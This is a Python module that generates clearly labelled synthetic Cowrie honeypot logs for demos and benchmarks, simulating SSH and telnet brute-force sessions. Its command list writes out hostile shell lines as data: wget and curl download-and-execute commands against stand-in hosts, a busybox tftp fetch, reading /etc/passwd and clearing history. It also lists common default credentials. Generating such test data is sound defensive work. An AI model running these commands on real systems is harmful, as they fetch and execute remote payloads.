# SPDX-License-Identifier: MIT
"""A synthetic attack dataset in Cowrie 3.x JSON, for the demo and the benchmarks.

It is clearly labelled: every sensor is named ``synthetic-<region>`` and
files are named ``synthetic-*.cowrie.json``. It is not real traffic, but it
has the shape of real honeypot data:

* heavy skew: a few source IPs, usernames and passwords dominate (Zipf);
* whole sessions: connect → client version → kex (HASSH) → login attempts →
  (on success) commands and downloads → closed, with growing timestamps;
* several sensors in different cloud regions, attacked at different rates.

Lines are built from pre-escaped templates rather than ``json.dumps`` per
event, so millions of events take seconds to generate.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import ipaddress
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

SENSORS: tuple[tuple[str, str, float], ...] = (
    # name, sensor address, share of the traffic
    ("synthetic-us-east-1", "10.10.1.5", 0.35),
    ("synthetic-eu-west-1", "10.20.1.5", 0.25),
    ("synthetic-ap-southeast-1", "10.30.1.5", 0.25),
    ("synthetic-sa-east-1", "10.40.1.5", 0.15),
)

USERNAMES = ["root", "admin", "user", "ubuntu", "test", "oracle", "pi", "postgres", "guest", "support",
             "ftpuser", "git", "deploy", "hadoop", "mysql", "nagios", "tomcat", "www-data", "centos",
             "ec2-user"]  # fmt: skip
PASSWORDS = ["123456", "admin", "password", "root", "1234", "12345", "123456789", "qwerty", "12345678",
             "111111", "admin123", "test", "1qaz2wsx", "P@ssw0rd", "changeme", "raspberry", "toor",
             "default", "ubnt", "abc123"]  # fmt: skip
CLIENTS = [
    ("SSH-2.0-Go", "16443846184eafde36765c9bab2f4397"),
    ("SSH-2.0-libssh2_1.10.0", "b5752e36ba6c5979a575e43178908adf"),
    ("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
    ("SSH-2.0-PUTTY", "d3b0e1a0f0bd2e0e8c9a4b4d2a7c2f11"),
    ("SSH-2.0-libssh-0.9.6", "f555226df1963d1d3c09daf865abdc9a"),
]
COMMANDS = [
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "whoami", "free -m", "ls -la",
    "cd /tmp; wget http://{host}/bins/x86_64; chmod +x x86_64; ./x86_64",
    "cat /etc/passwd", "echo -e '\\x41\\x42'", "nproc", "w", "crontab -l",
    "curl -s http://{host}/sh | sh", "busybox tftp -g -r mips {host}", "history -c",
]  # fmt: skip
MALWARE_HOSTS = ["203.0.113.7", "198.51.100.23", "192.0.2.44"]
UUID = "4b641156-0da5-11f1-8f67-bc2411b4efd9"


def _zipf_weights(n: int, s: float = 1.1) -> list[float]:
    return [1.0 / (i + 1) ** s for i in range(n)]


def _attackers(rng: random.Random, n: int) -> list[str]:
    out: list[str] = []
    while len(out) < n:
        ip = ipaddress.IPv4Address(rng.getrandbits(32))
        if ip.is_global and not ip.is_multicast:
            out.append(str(ip))
    return out


@dataclass
class _Pools:
    ips: list[str]
    ip_w: list[float]
    user_w: list[float]
    pass_w: list[float]
    extra_users: list[str]
    extra_pass: list[str]


def _q(s: str) -> str:
    return json.dumps(s)


class Generator:
    """Produces Cowrie JSON lines, session by session."""

    def __init__(self, seed: int = 7, start: dt.datetime | None = None, days: float = 7.0, attackers: int = 3000):
        self.rng = random.Random(seed)
        self.start = start or dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
        self.span = days * 86400.0
        rng = self.rng
        self.pools = _Pools(
            ips=_attackers(rng, attackers),
            ip_w=_zipf_weights(attackers, 1.2),
            user_w=_zipf_weights(len(USERNAMES), 1.3),
            pass_w=_zipf_weights(len(PASSWORDS), 1.2),
            extra_users=[f"user{i}" for i in range(5000)],
            extra_pass=[f"pw{rng.getrandbits(40):x}" for i in range(20000)],
        )

    def sessions(
        self, events: int, sensors: tuple[tuple[str, str, float], ...] = SENSORS
    ) -> Iterator[tuple[str, list[str]]]:
        """Yield ``(sensor, lines)`` per session until ``events`` lines were produced."""
        rng, p = self.rng, self.pools
        names = [s[0] for s in sensors]
        weights = [s[2] for s in sensors]
        addr = {s[0]: s[1] for s in sensors}
        n = 0
        # Sessions arrive in time order; the mean gap spreads `events` over the span.
        mean_gap = self.span / max(events / 8.0, 1.0)
        t = self.start.timestamp()
        while n < events:
            t += rng.expovariate(1.0 / mean_gap)
            sensor = rng.choices(names, weights)[0]
            ip = rng.choices(p.ips, p.ip_w)[0]
            lines = self._session(sensor, addr[sensor], ip, t)
            lines = lines[: events - n]
            n += len(lines)
            yield sensor, lines

    def _session(self, sensor: str, dst: str, ip: str, t: float) -> list[str]:
        rng, p = self.rng, self.pools
        sid = f"{rng.getrandbits(48):012x}"
        port = rng.randint(1024, 65535)
        proto = "ssh" if rng.random() < 0.85 else "telnet"
        dport = 22 if proto == "ssh" else 23
        common = (
            f'"src_ip":"{ip}","src_port":{port},"dst_ip":"{dst}","dst_port":{dport},'
            f'"session":"{sid}","protocol":"{proto}","sensor":"{sensor}","uuid":"{UUID}"'
        )
        out: list[str] = []
        clock = [t]

        def emit(eventid: str, body: str) -> None:
            clock[0] += rng.random() * 0.8
            ts = dt.datetime.fromtimestamp(clock[0], dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            out.append(f'{{"eventid":"{eventid}",{body}{"," if body else ""}{common},"timestamp":"{ts}"}}')

        emit("cowrie.session.connect",
             f'"message":"New connection: {ip}:{port} ({dst}:{dport}) [session: {sid}]"')  # fmt: skip
        if proto == "ssh":
            version, hassh = rng.choice(CLIENTS)
            emit("cowrie.client.version", f'"version":{_q(version)},"message":{_q("Remote SSH version: " + version)}')
            emit(
                "cowrie.client.kex",
                f'"hassh":"{hassh}","hasshAlgorithms":"curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none",'
                '"kexAlgs":["curve25519-sha256","ecdh-sha2-nistp256","diffie-hellman-group14-sha256"],'
                '"keyAlgs":["ssh-ed25519","rsa-sha2-256"],"encCS":["aes128-ctr","aes256-ctr"],'
                '"macCS":["hmac-sha2-256"],"compCS":["none"],"langCS":[""],'
                f'"message":"SSH client hassh fingerprint: {hassh}"',
            )
        success = False
        for _ in range(rng.choice((1, 1, 2, 3, 4, 6))):
            user = rng.choices(USERNAMES, p.user_w)[0] if rng.random() < 0.8 else rng.choice(p.extra_users)
            pw = rng.choices(PASSWORDS, p.pass_w)[0] if rng.random() < 0.6 else rng.choice(p.extra_pass)
            success = rng.random() < 0.12
            what = "succeeded" if success else "failed"
            emit(
                f"cowrie.login.{'success' if success else 'failed'}",
                f'"username":{_q(user)},"password":{_q(pw)},"message":{_q(f"login attempt [{user}/{pw}] {what}")}',
            )
            if success:
                break
        if success:
            host = rng.choice(MALWARE_HOSTS)
            for _ in range(rng.randint(1, 5)):
                cmd = rng.choice(COMMANDS).format(host=host)
                emit("cowrie.command.input", f'"input":{_q(cmd)},"message":{_q("CMD: " + cmd)}')
                if "wget" in cmd or "curl" in cmd:
                    url = f"http://{host}/bins/x86_64" if "wget" in cmd else f"http://{host}/sh"
                    sha = hashlib.sha256(url.encode()).hexdigest()  # stands in for the payload's hash
                    emit(
                        "cowrie.session.file_download",
                        f'"url":"{url}","outfile":"var/lib/cowrie/downloads/{sha}","shasum":"{sha}",'
                        f'"message":"Downloaded URL ({url}) with SHA-256 {sha} to var/lib/cowrie/downloads/{sha}"',
                    )
        dur = clock[0] - t
        emit("cowrie.session.closed", f'"duration":"{dur:.1f}","message":"Connection lost after {dur:.1f} seconds"')
        return out


def write_cowrie_log(
    path: Path, events: int, seed: int = 7, days: float = 7.0, start: dt.datetime | None = None
) -> int:
    """Write ``events`` synthetic Cowrie lines (all sensors mixed) to one file; returns its size."""
    gen = Generator(seed=seed, days=days, start=start)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        for _, lines in gen.sessions(events):
            f.write("\n".join(lines))
            f.write("\n")
    return path.stat().st_size


def write_demo_logs(folder: Path, events: int, seed: int = 7, days: float = 7.0) -> list[Path]:
    """One ``synthetic-<sensor>.cowrie.json`` per sensor, as a fleet's shipped logs would be."""
    folder.mkdir(parents=True, exist_ok=True)
    gen = Generator(seed=seed, days=days)
    handles = {name: open(folder / f"{name}.cowrie.json", "w", encoding="utf-8") for name, _, _ in SENSORS}  # noqa: SIM115
    try:
        for sensor, lines in gen.sessions(events):
            handles[sensor].write("\n".join(lines) + "\n")
    finally:
        for h in handles.values():
            h.close()
    return sorted(folder / f"{name}.cowrie.json" for name, _, _ in SENSORS)
